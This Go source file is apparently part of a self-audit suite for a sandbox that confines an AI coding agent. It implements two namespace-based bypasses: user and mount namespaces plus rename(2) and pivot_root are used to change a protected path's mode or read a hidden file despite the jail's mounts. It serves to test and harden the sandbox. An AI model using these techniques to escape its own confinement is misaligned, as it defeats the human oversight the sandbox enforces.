package files

import (
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/jailed-claude/jailed-claude/runtime/audit/attack"
)

// aroundAttack goes around mounts: rename(2) refuses a mount point of the
// caller's own mount namespace, and from one without our mounts it is none. It
// needs a user namespace; identity.nesting gives it away (docs/security.md).
func aroundAttack(name, class, promise, success string, paths func(*attack.Env) []string, try func(e *attack.Env, p string) attack.Result, judge func(attack.Witness, attack.Result) attack.Result) attack.Attack {
	return attack.Attack{Name: name, Class: class, Promise: promise, Source: "rename(2): EBUSY in the own mount namespace alone; user_namespaces(7)", Success: success, Judge: judge, Run: func(e *attack.Env) attack.Result {
		var rs []attack.Result
		for _, p := range paths(e) {
			rs = append(rs, try(e, p))
		}
		if len(rs) == 0 {
			return attack.Inapplicable("there is nothing of the kind in the project")
		}
		return attack.FirstThrough(rs...)
	}}
}

func changeAround() attack.Attack {
	return aroundAttack("protected-change-by-namespace", "persistence", attack.PromisePersistence, "a protected path is changed from a mount namespace without the mount on it, without a word at the end",
		func(e *attack.Env) []string { return e.Facts.Protected },
		func(e *attack.Env, p string) attack.Result {
			fi, err := os.Stat(p)
			if err != nil {
				return attack.HeldBy("%s", attack.Plain(err))
			}
			err = around(e, p, func(moved uintptr) []attack.Call {
				return []attack.Call{attack.Sys(unix.SYS_FCHMODAT, attack.AtCwd, moved, uintptr(fi.Mode().Perm()))}
			})
			return attack.Unless(err, "%q was moved, its mode was set to what it was, and it was moved back", p)
		},
		func(s attack.Witness, r attack.Result) attack.Result {
			for _, p := range s.Told().Facts.Protected {
				if q := strconv.Quote(p); r.Verdict == attack.GotThrough && strings.HasPrefix(r.Detail, q) && s.Said(q+": protected, and changed") {
					return attack.HeldBy("it was changed, and reported at the end of the jail: the policy lets the agent make namespaces")
				}
			}
			return r
		})
}

func readAround() attack.Attack {
	return aroundAttack("hidden-read-by-namespace", "hidden", attack.PromiseHidden, "a hidden file is read from a mount namespace without the mask on it",
		func(e *attack.Env) []string { return files(e.Facts.Hidden) },
		func(e *attack.Env, p string) attack.Result {
			r, w, err := os.Pipe()
			if err != nil {
				return attack.Failure("%v", err)
			}
			defer r.Close()
			out := w.Fd()
			err = around(e, p, func(moved uintptr) []attack.Call {
				return []attack.Call{attack.Sys(unix.SYS_OPENAT, attack.AtCwd, moved, unix.O_RDONLY), attack.Sys(unix.SYS_SENDFILE, out, attack.ResultOf(opened), 0, 64)}
			})
			_ = w.Close()
			if err != nil {
				return attack.HeldBy("%s", attack.Plain(err))
			}
			if n, _ := r.Read(make([]byte, 64)); n == 0 {
				return attack.HeldBy("it is empty")
			}
			return attack.Through("%s was read", p)
		}, nil)
}

// opened is the place of the first call that around gets from its caller.
const opened = 8

// around moves the topmost folder of the project that holds p into another one
// of the project, from a mount namespace where nothing is mounted on either,
// makes the calls on p there (moved is its path), and moves it back.
func around(e *attack.Env, p string, calls func(moved uintptr) []attack.Call) error {
	project, err := unix.Open(e.Facts.Project, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(project)
	name := e.Marked("around")
	dir := filepath.Join(e.Facts.Project, name)
	if err := os.Mkdir(dir, 0o700); err != nil {
		return err
	}
	defer os.Remove(dir)
	rel, err := filepath.Rel(e.Facts.Project, p)
	if err != nil {
		return err
	}
	top, rest, _ := strings.Cut(rel, "/")
	here, there, at := attack.CString(top), attack.CString(name+"/moved"), uintptr(project)
	rename := func(from, to uintptr) attack.Call {
		return attack.Sys(unix.SYS_RENAMEAT2, at, from, at, to, unix.RENAME_NOREPLACE)
	}
	dot := attack.CString(".")
	enter := []attack.Call{
		attack.Sys(unix.SYS_UNSHARE, unix.CLONE_NEWUSER|unix.CLONE_NEWNS),
		attack.Sys(unix.SYS_MOUNT, attack.CString("none"), attack.CString("/"), 0, unix.MS_REC|unix.MS_PRIVATE, 0),
		attack.Sys(unix.SYS_MOUNT, attack.CString(dir), attack.CString("/tmp"), 0, unix.MS_BIND, 0),
		attack.Sys(unix.SYS_CHDIR, attack.CString("/tmp")),
		attack.Sys(unix.SYS_PIVOT_ROOT, dot, dot),
		attack.Sys(unix.SYS_UMOUNT2, dot, unix.MNT_DETACH),
		attack.Sys(unix.SYS_CHDIR, attack.CString("/")),
	}
	// First whether it can be moved at all, and back.
	if err := attack.Forked(append(slices.Clip(enter), rename(here, there), rename(there, here))...); err != nil {
		return err
	}
	steps := append(slices.Clip(enter), rename(here, there))
	steps = append(append(steps, calls(attack.CString(filepath.Join("moved", rest)))...), rename(there, here))
	if err := attack.Forked(steps...); err != nil {
		// It ended there; it must not stay.
		return firstError(attack.Forked(append(slices.Clip(enter), rename(there, here))...), err)
	}
	return nil
}

func firstError(a, b error) error {
	if a != nil {
		return a
	}
	return b
}
